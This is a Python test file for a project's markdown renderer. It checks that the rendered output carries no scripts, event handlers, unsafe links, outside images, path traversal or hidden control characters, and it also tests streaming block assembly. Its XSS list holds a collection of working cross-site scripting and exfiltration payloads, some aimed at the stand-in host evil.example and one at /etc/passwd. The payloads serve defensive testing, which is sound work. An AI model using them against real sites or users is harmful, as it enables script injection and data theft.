"""Markdown of people and models: readable, and nothing in it that runs, loads, leads astray or cannot be seen."""

import html
import re
import unicodedata
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from toolhost.web.code import LARGEST as LARGEST_CODE
from toolhost.web.markdown import LARGEST, rendered
from toolhost.web.streaming import Settling

XSS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><iframe src=javascript:alert(1)>',
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/a)",
    "[x](/api/auth/logout)",
    "![x](https://evil.example/p.png?d=SECRET)",
    "![x](//evil.example/p.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x][r]\n\n[r]: https://evil.example/p.png",
    "![x](../../../etc/passwd)",
    "![x](%2e%2e/%2e%2e/x.png)",
    "![x](/c/v_other/image/x.png)",
    '[x](https://a.example "onmouseover=alert(1) x=\\"")',
    '```"><script>alert(1)</script>\ncode\n```',
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "<!--<img src='--><img src=x onerror=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <style>*{background:url(https://evil.example)}</style>",
    "<https://a.example/\"onclick=alert(1)>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=x></form>",
]  # fmt: skip
TAGS = {"a", "blockquote", "br", "button", "code", "div", "em", "h4", "h5", "h6", "hr", "img", "li", "ol", "p", "pre",
        "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul"}  # fmt: skip


class Elements(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def shown(text: str, **more: object) -> str:
    return str(rendered(text, **{"copy": "Copy", "files": "/c/v_mine/image/", **more}))


def harmless(made: str) -> None:
    for tag, attributes in Elements(made).found:
        assert tag in TAGS, made
        assert not [name for name in attributes if name.startswith("on") or name in ("style", "srcset", "id")], made
        if tag == "img":
            assert str(attributes["src"]).startswith("/c/v_mine/image/"), made
            assert ".." not in str(attributes["src"]), made
        if tag == "a":
            assert re.match(r"https?://|mailto:|[\w.-]+(/|$)", str(attributes["href"])), made
            assert attributes["rel"] == "noopener noreferrer nofollow"


@pytest.mark.parametrize("text", XSS)
def test_nothing_that_runs_or_loads_comes_out(text: str) -> None:
    harmless(shown(text))


@given(st.lists(st.sampled_from([*XSS, "\n", "\n\n", "> ", "- ", "```", "`", "*", "|", "\u202e"]), max_size=12))
def test_nor_does_it_from_any_mixture(pieces: list[str]) -> None:
    made = shown("".join(pieces))
    harmless(made)
    text = html.unescape(re.sub(r"<[^>]*>", "", made))
    assert not [c for c in text if unicodedata.category(c) in ("Cf", "Cs") or (c < " " and c not in "\n\t")]


@pytest.mark.parametrize(
    ("text", "holds"),
    [
        ("# Head", "<h4>Head</h4>"),
        ("a **b** *c* ~~d~~ `e`", "<strong>b</strong> <em>c</em> <s>d</s> <code>e</code>"),
        ("one\ntwo", "one\ntwo"),
        ("| a |\n|--:|\n| 1 |", '<td class="right">1</td>'),
        ("![plot](out/p 1.png)", "![plot](out/p 1.png)"),
        ("![plot](<out/p 1.png>)", '<img class="figure" src="/c/v_mine/image/out/p%201.png" alt="plot"'),
        ("![secret](https://evil.example/x)", '<span class="picture">secret</span> <span class="host">evil.example'),
        ("[good.example](https://evil.example)", '<span class="host">evil.example</span>'),
        ("[evil.example](https://evil.example)", 'rel="noopener noreferrer nofollow">evil.example</a></p>'),
        ("```python\ndef f(): pass\n```", '<span class="t-k">def</span>'),
        ("```nonsense\n<b>\n```", "&lt;b&gt;"),
        ("\x1b[31m \u202e \u200b \U000e0041", "␛"),
        ("dix\u00a0€ ⚠️", "dix&nbsp;€ ⚠️"),
    ],
)
def test_what_was_meant_is_there(text: str, holds: str) -> None:
    assert holds in shown(text)


def test_a_line_end_of_a_person_ends_the_line() -> None:
    assert "one<br>\ntwo" in shown("one\ntwo", breaks=True)


def test_outside_a_conversation_there_are_no_images() -> None:
    assert "<img" not in shown("![x](a.png)", files="")


def test_too_long_a_text_is_plain_at_its_end_and_code_too_long_is_not_coloured() -> None:
    made = shown("a " * (LARGEST // 2) + "**not bold** <b>")
    assert made.endswith('<pre class="rest">**not bold** &lt;b&gt;</pre>')
    assert 'class="t-' not in shown("```python\n" + "x = 1\n" * (LARGEST_CODE // 6 + 1) + "```")


def test_text_that_is_made_to_be_slow_is_plain_from_there_on() -> None:
    for language in ("java", "make", "markdown", "typescript", "c"):
        made = shown(f"```{language}\n" + "   \n" * 5000 + "```")
        assert made.count("\n") >= 5000


def blocks(text: str, size: int) -> tuple[list[str], str]:
    settling, done = Settling(), []
    for at in range(0, len(text), size):
        settled = settling.feed(text[at : at + size])
        if settled:
            done.append(settled)
    return done, settling.tail


@given(st.text(alphabet="a`~ \n-"), st.integers(1, 7))
def test_a_message_in_pieces_is_whole_at_every_moment(text: str, size: int) -> None:
    done, tail = blocks(text, size)
    assert "".join(done) + tail == text


def test_a_block_settles_when_it_is_complete_and_code_not_before_its_end() -> None:
    text = "One.\n\n```py\na\n\nb\n```\nTwo\nthree"
    done, tail = blocks(text, 1)
    assert [block for block in done if block.strip()] == ["One.\n\n", "```py\na\n\nb\n```\n"]
    assert tail == "Two\nthree"
